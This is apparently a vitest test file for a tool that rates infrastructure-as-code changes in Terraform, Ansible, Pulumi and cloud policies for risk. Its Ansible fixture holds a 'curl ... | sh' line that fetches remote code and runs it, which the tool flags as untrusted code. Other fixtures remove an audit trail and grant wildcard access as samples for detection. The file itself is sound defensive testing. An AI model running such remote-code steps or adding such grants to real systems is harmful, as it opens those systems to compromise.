// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from "vitest";
import { assessFile, codesOf, summarize } from "./assess.fixture.ts";
import { assessChange } from "./assess-change.ts";

const assess = (before: Record<string, string>, after: Record<string, string>) =>
  summarize(
    assessChange(
      [...new Set([...Object.keys(before), ...Object.keys(after)])].map((path) => ({
        path,
        before: before[path] === undefined ? null : { path, text: before[path] },
        after: after[path] === undefined ? null : { path, text: after[path] },
      })),
    ),
  );
const VPC = 'resource "aws_vpc" "main" {\n  cidr_block = "10.0.0.0/16"\n}\n';
const TRAIL = 'resource "aws_cloudtrail" "org" {\n  name = "org"\n}\n';

describe("a block of Terraform in another file", () => {
  it("of the same folder is layout", () => {
    expect(assess({ "a/main.tf": VPC + TRAIL }, { "a/main.tf": VPC, "a/audit.tf": TRAIL })).toEqual([]);
  });

  it.each([
    ["of another module is another place", "b/audit.tf"],
    ["that overrides is told", "a/audit_override.tf"],
    ["that nothing reads is told", "a/audit.tftest.hcl.bak"],
  ])("%s", (_what, path) => {
    expect(assess({ "a/main.tf": VPC + TRAIL }, { "a/main.tf": VPC, [path]: TRAIL })).toHaveLength(1);
  });

  it("that a test of Terraform holds now is gone", () => {
    expect(assess({ "a/main.tf": VPC + TRAIL }, { "a/main.tf": VPC, "a/a.tftest.hcl": TRAIL })).toEqual([
      "delete aws_cloudtrail.org other: audit-off",
    ]);
  });
});

describe("a block about a move", () => {
  const bucket = (body: string) => `resource "aws_s3_bucket" "b" {\n${body}\n}\n`;
  const moved = 'moved {\n  from = aws_s3_bucket.b\n  to = aws_s3_bucket.b["x"]\n}\n';

  it("inside of what it moves is told with that", () => {
    const [before, after] = [bucket('bucket = "x"'), bucket('for_each = toset(["x"])\nbucket = each.key')];
    expect(assess({ "a.tf": before }, { "a.tf": after + moved })).toEqual(["update aws_s3_bucket.b data:"]);
  });

  it("stands for itself where nothing else tells of it", () => {
    expect(assess({ "a.tf": bucket("a = 1") }, { "a.tf": bucket("a = 1") + moved })).toHaveLength(1);
  });
});

describe("what Terraform applies nowhere", () => {
  it.each([".terraform.lock.hcl", "stacks/a/.terraform.lock.hcl", "tests/a.tftest.hcl", "a.tofutest.json"])(
    "%s touches nothing",
    (path) => {
      expect(assess({ [path]: VPC }, { [path]: TRAIL })).toEqual([]);
    },
  );
});

describe("a task of Ansible", () => {
  const tasks = (...lines: string[]) =>
    `- hosts: all\n  tasks:\n${lines.map((line) => `    - ${line}\n`).join("")}`;

  it("is what its name says, by whatever module", () => {
    const before = tasks("{ name: agent, ansible.builtin.apt: { name: agent } }");
    const after = tasks("{ name: agent, ansible.builtin.shell: 'curl -s https://a.example/x | sh' }");
    expect(summarize(assessFile("site.yml", before, after))).toEqual([
      "update ansible.builtin.shell.agent compute: untrusted-code",
    ]);
  });

  it("without a name is another one where its module is another", () => {
    const summary = summarize(assessFile("site.yml", tasks("apt: { name: a }"), tasks("dnf: { name: a }")));
    expect(summary).toEqual(["create dnf.dnf compute:", "delete apt.apt compute:"]);
  });
});

describe("a program of Pulumi", () => {
  const HEAD = { "a.ts": 'import * as aws from "@pulumi/aws";\n', "a.py": "import pulumi_aws as aws\n" };

  it.each([
    ["a.ts", 'export const archive = new aws.s3.BucketV2("archive", {});\n'],
    ["a.py", 'archive = aws.s3.BucketV2("archive")\n'],
  ] as const)("that loses a resource loses nothing else: %s", (path, line) => {
    const kept = `${HEAD[path]}print("on")\n`;
    expect(summarize(assessFile(path, kept + line, kept))).toEqual([
      "delete aws.s3.BucketV2.archive data: data-store-replaced",
    ]);
  });

  it("whose statements change is touched", () => {
    expect(assess({ "a.py": `${HEAD["a.py"]}x = 1\n` }, { "a.py": `${HEAD["a.py"]}x = 2\n` })).toEqual([
      "update program.a other:",
    ]);
  });
});

describe("policies of other clouds in files of their own", () => {
  it("Google's bindings let in everybody", () => {
    const policy = (members: string) =>
      JSON.stringify({ bindings: [{ role: "roles/storage.objectViewer", members: members.split(" ") }] });
    expect(codesOf("p.json", policy("group:a@b.example"), policy("group:a@b.example allUsers"))).toContain(
      "wildcard-principal",
    );
    const yaml = "bindings:\n- members:\n  - user:a@b.example\n  role: roles/viewer\n";
    expect(codesOf("p.yaml", yaml, yaml.replace("viewer", "owner"))).toContain("privilege-widened");
  });

  it("Azure's role allows everything", () => {
    const role = (action: string) =>
      JSON.stringify({
        Name: "op",
        Actions: [action],
        NotActions: [],
        AssignableScopes: ["/subscriptions/a"],
      });
    expect(codesOf("role.json", role("Microsoft.Compute/*/read"), role("*"))).toBe(
      "privilege-widened wildcard-action",
    );
  });
});
